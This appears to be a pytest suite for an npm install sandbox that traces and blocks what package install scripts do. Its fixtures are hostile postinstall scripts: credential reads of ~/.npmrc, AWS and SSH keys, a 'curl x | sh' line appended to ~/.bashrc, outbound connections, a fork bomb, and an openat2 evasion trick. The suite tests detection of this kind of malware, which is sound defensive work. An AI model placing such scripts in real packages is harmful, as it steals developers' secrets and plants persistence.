"""The install sandbox and its trace reader (issue 25): real npm installs of real tarballs under real strace
and a real seccomp filter; packages are built in temp dirs and packed by the real `npm pack`."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from gatekeeper._internal import sandbox
from gatekeeper.diffing import install_behaviour as ib

NO_REGISTRY = "http://127.0.0.1:9/"  # the packages below have no dependency: the fetch never asks it

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox drops to its own uid only as root")


def pack(tmp: Path, name: str, scripts: dict[str, str], files: dict[str, str] | None = None) -> Path:
    """A real tarball made by `npm pack` from a package folder written here."""
    pkg = tmp / f"src-{name}"
    pkg.mkdir(parents=True)
    (pkg / "package.json").write_text(json.dumps({"name": name, "version": "1.0.0", "scripts": scripts}))
    for rel, text in (files or {}).items():
        (pkg / rel).write_text(text)
    out = subprocess.run(
        ["npm", "pack", "--silent", "--pack-destination", str(tmp)], cwd=pkg, check=True, capture_output=True, text=True
    )
    return tmp / out.stdout.strip().splitlines()[-1]


def profile_of(obs: sandbox.Observation) -> ib.Profile:
    return ib.read_trace(obs.trace, ib.Layout(obs.project, obs.home, obs.tmp, obs.canaries), truncated=obs.truncated)


EVIL = """
const fs = require('fs'), os = require('os'), net = require('net'), cp = require('child_process');
try { fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
try { fs.appendFileSync(os.homedir() + '/.bashrc', 'curl x | sh\\n'); } catch (e) {}
const s = net.connect(8443, '198.51.100.7'); s.on('error', (e) => console.log('net ' + e.code));
try { cp.execFileSync('curl', ['-s', '--max-time', '2', 'http://198.51.100.7/x']); } catch (e) {}
"""


def test_postinstall_behaviour_is_recorded_and_the_network_refused(tmp_path: Path) -> None:
    assert sandbox.probe() is None
    tgz = pack(tmp_path, "evil-demo", {"postinstall": "node post.js"}, {"post.js": EVIL})
    obs = sandbox.observe_install(tgz, "evil-demo", registry=NO_REGISTRY)
    assert obs.exit_code == 0 and not obs.timed_out and obs.left_running == 0
    assert "net EACCES" in obs.output  # the connect was refused by the filter, not by a missing route
    beh = profile_of(obs).packages["evil-demo"]
    assert "node post.js" in beh.items["processes"]
    assert "curl -s --max-time 2 http://198.51.100.7/x" in beh.items["processes"]
    net = beh.items["network"]["AF_INET 198.51.100.7 port 8443"]
    assert net.startswith("connect(") and "EACCES" in net
    assert "openat(" in beh.items["canaries"]["~/.npmrc"]
    assert "O_APPEND" in beh.items["writes"]["~/.bashrc"]
    assert all("gatekeeper-sandbox-" not in ev for kind in beh.items.values() for ev in kind.values())
    assert sandbox.CANARY_TOKEN not in obs.trace  # a canary read is seen by its open, never copied to the trace


def test_a_benign_script_shows_only_its_own_process(tmp_path: Path) -> None:
    tgz = pack(
        tmp_path,
        "benign-demo",
        {"postinstall": "node build.js"},
        {"build.js": "require('fs').writeFileSync(__dirname + '/out.txt', 'ok')"},
    )
    obs = sandbox.observe_install(tgz, "benign-demo", registry=NO_REGISTRY)
    beh = profile_of(obs).packages["benign-demo"]
    assert sorted(beh.items["processes"]) == ["node build.js", "sh -c 'node build.js'"]
    assert not beh.items["writes"] and not beh.items["network"] and not beh.items["canaries"]


@pytest.mark.parametrize(
    ("name", "scripts", "files"),
    [
        ("hang-demo", {"postinstall": "(sleep 1000 &); setsid sleep 999 & node -e 'setInterval(() => {}, 1000)'"}, {}),
        (
            "bomb-demo",
            {"postinstall": "node bomb.js"},
            {
                "bomb.js": "const cp = require('child_process');\n"
                "const go = () => { try { const c = cp.spawn('sh', ['-c', 'sleep 600'], {detached: true, "
                "stdio: 'ignore'}); c.on('error', () => {}); c.unref(); } catch (e) {} };\n"
                "for (let i = 0; i < 2000; i++) go();\nsetInterval(() => { for (let i = 0; i < 50; i++) go(); }, 20);\n"
            },
        ),
    ],
)
def test_a_hang_or_a_fork_bomb_is_stopped_at_the_deadline_and_nothing_is_left(
    tmp_path: Path, name: str, scripts: dict[str, str], files: dict[str, str]
) -> None:
    tgz = pack(tmp_path, name, scripts, files)
    obs = sandbox.observe_install(tgz, name, registry=NO_REGISTRY, limits=sandbox.Limits(seconds=6))
    assert obs.timed_out and obs.exit_code is None
    assert obs.left_running == 0
    assert sandbox.pids_of(obs.uid) == []  # setsid'd and detached children too: every process of the uid
    assert not Path(obs.project).exists()  # the temp dir is gone


def test_the_trace_reader_attributes_forks_and_keeps_a_process_on_its_first_package() -> None:
    lay = ib.Layout("/s/box/project", "/s/box/home", "/s/box/tmp", ("/s/box/home/.npmrc",))
    trace = "\n".join(
        [
            '9 execve("/usr/bin/node", ["node", "npm-cli.js", "rebuild"], 0x1 /* 3 vars */) = 0',
            '9 chdir("/s/box/project/node_modules/c") = 0',  # npm's own process: claims no package
            "9 clone(child_stack=NULL, flags=CLONE_VM|CLONE_VFORK) = 10",
            '10 chdir("/s/box/project/node_modules/a") = 0',
            "10 vfork( <unfinished ...>",
            '11 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 3 vars */ <unfinished ...>',
            "10 <... vfork resumed>)              = 11",
            "11 <... execve resumed>)             = 0",
            '11 chdir("../b") = 0',  # a cd into another package does not move a's behaviour there
            '11 openat(AT_FDCWD</s/box/project/node_modules/b>, "index.js", O_WRONLY|O_TRUNC) = 3</x>',
            '11 openat(AT_FDCWD, "/s/box/home/.npmrc", O_RDONLY) = 3',
            '11 openat(AT_FDCWD, "/s/box/tmp/abc123/f", O_WRONLY|O_CREAT, 0644) = 3',
            '11 openat(AT_FDCWD, "own.txt", O_WRONLY|O_CREAT, 0644) = -1 EACCES (Permission denied)',
            '12 openat(AT_FDCWD, "/etc/passwd", O_WRONLY) = -1 EACCES (Permission denied)',  # npm's own pid
            "11 connect(4<socket:[9]>, {sa_family=AF_INET6, sin6_port=htons(443), sin6_flowinfo=htonl(0), "
            'inet_pton(AF_INET6, "2001:db8::1", &sin6_addr), sin6_scope_id=0}, 28) = -1 EACCES (Permission denied)',
        ]
    )
    prof = ib.read_trace(trace, lay)
    assert list(prof.packages) == ["a"]
    a = prof.packages["a"]
    # relative paths resolve against the process's cwd (b's folder now); $TMPDIR is not "outside"
    assert sorted(a.items["writes"]) == ["node_modules/b/index.js", "node_modules/b/own.txt"]
    assert list(a.items["canaries"]) == ["~/.npmrc"]
    assert list(a.items["network"]) == ["AF_INET6 2001:db8::1 port 443"]
    assert "socket:[]" in a.items["network"]["AF_INET6 2001:db8::1 port 443"]


def test_a_benign_release_of_a_real_package_with_an_install_script_shows_no_new_behaviour() -> None:
    """esbuild 0.20.1 -> 0.20.2 (committed real tarballs): its postinstall (`node install.js`) checks the platform
    binary that npm fetched from the registry (@esbuild/linux-x64); the two installs behave alike."""
    fixtures = Path(__file__).parent / "fixtures" / "tarballs"
    got = subprocess.run(["npm", "config", "get", "cafile"], capture_output=True, text=True, check=False)
    cafile = got.stdout.strip() if got.stdout.strip() not in ("", "null", "undefined") else None
    profiles = []
    for version in ("0.20.1", "0.20.2"):
        obs = sandbox.observe_install(
            fixtures / f"esbuild-{version}.tgz", "esbuild", registry="https://registry.npmjs.org/", cafile=cafile
        )
        assert obs.exit_code == 0 and not obs.timed_out, obs.output
        profiles.append(profile_of(obs))
    base, cand = profiles
    assert "node install.js" in cand.packages["esbuild"].items["processes"]
    assert ib.diff(base, cand) == []


def test_hostile_names_in_the_trace_reach_the_report_escaped() -> None:
    """A program run with a newline and a terminal escape in its argv (as strace prints it, C-escaped)."""
    from gatekeeper.gates import dynamic

    lay = ib.Layout("/s/box/project", "/s/box/home", "/s/box/tmp")
    trace = (
        '7 chdir("/s/box/project/node_modules/x") = 0\n'
        '7 execve("/bin/echo", ["echo", "ok\\n::error::pwned\\33[2J"], 0x1 /* 1 vars */) = 0\n'
    )
    prof = ib.read_trace(trace, lay)
    [item] = prof.packages["x"].items["processes"]
    assert "\n" in item and "\x1b" in item  # the profile keeps the real bytes
    obs = dynamic.Observed(candidate=prof, baseline=None, baseline_version=None, changes=ib.diff(None, prof))
    text = "\n".join(dynamic.text_lines(obs))
    assert "\x1b" not in text and "\n::error::" not in text
    md = dynamic.markdown_section(obs)
    assert "\x1b" not in md and "\n::error::" not in md


def test_two_sandboxes_on_one_machine_never_share_a_uid() -> None:
    """The uid is claimed (an abstract socket bound in its name) for as long as the run holds it: parallel runs
    (xdist workers, two jobs of a self-hosted runner) cannot reap each other's processes."""
    first_uid, first = sandbox._claim_uid()
    try:
        second_uid, second = sandbox._claim_uid()
        second.close()
        assert second_uid != first_uid
    finally:
        first.close()
    again, claim = sandbox._claim_uid()
    claim.close()
    assert again == first_uid  # released with the socket


# A script that opens files with openat2 (Linux 5.6+; libc has no wrapper: a raw syscall from any native code or
# from ctypes) reads the canary and writes outside its folder without an `openat` in the trace.
OPENAT2 = r"""
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
def openat2(path, flags):
    buf = struct.pack("QQQ", flags, 0o644 if flags & os.O_CREAT else 0, 0)  # struct open_how {flags, mode, resolve}
    return libc.syscall(437, -100, path.encode(), buf, len(buf))
fd = openat2(os.path.expanduser("~/.npmrc"), os.O_RDONLY)
print("openat2 read", len(os.read(fd, 4096)) if fd >= 0 else "errno %d" % ctypes.get_errno())
fd = openat2(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_CREAT | os.O_APPEND)
print("openat2 write", os.write(fd, b"curl x | sh\n") if fd >= 0 else "errno %d" % ctypes.get_errno())
"""


def test_a_file_opened_with_openat2_is_never_unobserved(tmp_path: Path) -> None:
    tgz = pack(tmp_path, "openat2-demo", {"postinstall": "/usr/bin/python3 o.py"}, {"o.py": OPENAT2})
    obs = sandbox.observe_install(tgz, "openat2-demo", registry=NO_REGISTRY)
    assert obs.exit_code == 0, obs.output
    beh = profile_of(obs).packages["openat2-demo"]
    # openat2 is refused (ENOSYS, as on a kernel without it: libc and libuv fall back to the traced openat)
    assert "openat2 read errno 38" in obs.output and "openat2 write errno 38" in obs.output, obs.output
    assert "/usr/bin/python3 o.py" in beh.items["processes"]


# A canary read through another name: a symlink (its open shows the link's path), a hard link, a renamed folder.
INDIRECT = r"""
const fs = require('fs'), os = require('os'), path = require('path');
const home = os.homedir(), tmp = os.tmpdir();
fs.symlinkSync(path.join(home, '.npmrc'), path.join(tmp, 'a'));
fs.readFileSync(path.join(tmp, 'a'));
fs.linkSync(path.join(home, '.aws/credentials'), path.join(tmp, 'b'));
fs.readFileSync(path.join(tmp, 'b'));
fs.renameSync(path.join(home, '.ssh'), path.join(tmp, 's'));
fs.readFileSync(path.join(tmp, 's/id_ed25519'));
console.log('indirect reads done');
"""


def test_a_canary_read_through_a_link_or_a_renamed_folder_is_recorded(tmp_path: Path) -> None:
    tgz = pack(tmp_path, "indirect-demo", {"postinstall": "node i.js"}, {"i.js": INDIRECT})
    obs = sandbox.observe_install(tgz, "indirect-demo", registry=NO_REGISTRY)
    assert obs.exit_code == 0 and "indirect reads done" in obs.output, obs.output
    beh = profile_of(obs).packages["indirect-demo"]
    assert sorted(beh.items["canaries"]) == ["~/.aws/credentials", "~/.npmrc", "~/.ssh/id_ed25519"], beh.items


def test_the_trace_reader_sees_a_canary_under_another_name() -> None:
    lay = ib.Layout("/s/box/project", "/s/box/home", "/s/box/tmp", ("/s/box/home/.npmrc", "/s/box/home/.ssh/k"))
    trace = "\n".join(
        [
            '10 chdir("/s/box/project/node_modules/a") = 0',
            '10 execve("/usr/bin/node", ["node", "x.js"], 0x1 /* 3 vars */) = 0',
            '10 openat(AT_FDCWD, "/s/box/tmp/l", O_RDONLY|O_CLOEXEC) = 3</s/box/home/.npmrc>',  # a symlink
            '10 link("/s/box/home/.npmrc", "/s/box/tmp/h") = 0',
            '10 renameat2(AT_FDCWD, "../../../home/.ssh", AT_FDCWD, "/s/box/tmp/s", 0) = 0',
            '10 symlink("../home/.ssh/k", "/s/box/tmp/k") = 0',
        ]
    )
    a = ib.read_trace(trace, lay).packages["a"]
    assert sorted(a.items["canaries"]) == ["~/.npmrc", "~/.ssh/k"]
    assert a.items["canaries"]["~/.npmrc"].startswith("openat(") and a.items["canaries"]["~/.ssh/k"].startswith("ren")
    assert (
        not ib.read_trace(trace.replace("/s/box/home/.npmrc>", "/s/box/tmp/l>"), lay)
        .packages["a"]
        .items["canaries"]
        .get("~/.npmrc", "")
        .startswith("openat(")
    )


# A write outside through a name inside TMPDIR: a symlink to ~/.bashrc, a hard link of the project's package.json.
INDIRECT_WRITE = r"""
const fs = require('fs'), os = require('os'), path = require('path');
const tmp = os.tmpdir();
fs.symlinkSync(path.join(os.homedir(), '.bashrc'), path.join(tmp, 'w'));
fs.appendFileSync(path.join(tmp, 'w'), 'curl x | sh\n');
fs.linkSync(path.resolve(__dirname, '../../package.json'), path.join(tmp, 'h'));
fs.appendFileSync(path.join(tmp, 'h'), '\n');
console.log('indirect writes done');
"""


def test_a_write_outside_through_a_link_in_tmpdir_is_recorded(tmp_path: Path) -> None:
    tgz = pack(tmp_path, "indirect-write-demo", {"postinstall": "node w.js"}, {"w.js": INDIRECT_WRITE})
    obs = sandbox.observe_install(tgz, "indirect-write-demo", registry=NO_REGISTRY)
    assert obs.exit_code == 0 and "indirect writes done" in obs.output, obs.output
    beh = profile_of(obs).packages["indirect-write-demo"]
    assert {"~/.bashrc", "<project>/package.json"} <= set(beh.items["writes"]), beh.items


def test_a_fifo_made_or_a_folder_removed_outside_is_recorded(tmp_path: Path) -> None:
    """mknod/mknodat (a FIFO, `mkfifo`) and rmdir change the file system outside the package as a write does."""
    script = "mkfifo ~/.gk-fifo && mkdir ~/.gk-empty && rmdir ~/.gk-empty && echo fs-done"
    tgz = pack(tmp_path, "fifo-demo", {"postinstall": script})
    obs = sandbox.observe_install(tgz, "fifo-demo", registry=NO_REGISTRY)
    assert obs.exit_code == 0 and "fs-done" in obs.output, obs.output
    beh = profile_of(obs).packages["fifo-demo"]
    assert "~/.gk-fifo" in beh.items["writes"] and "~/.gk-empty" in beh.items["deleted"], beh.items
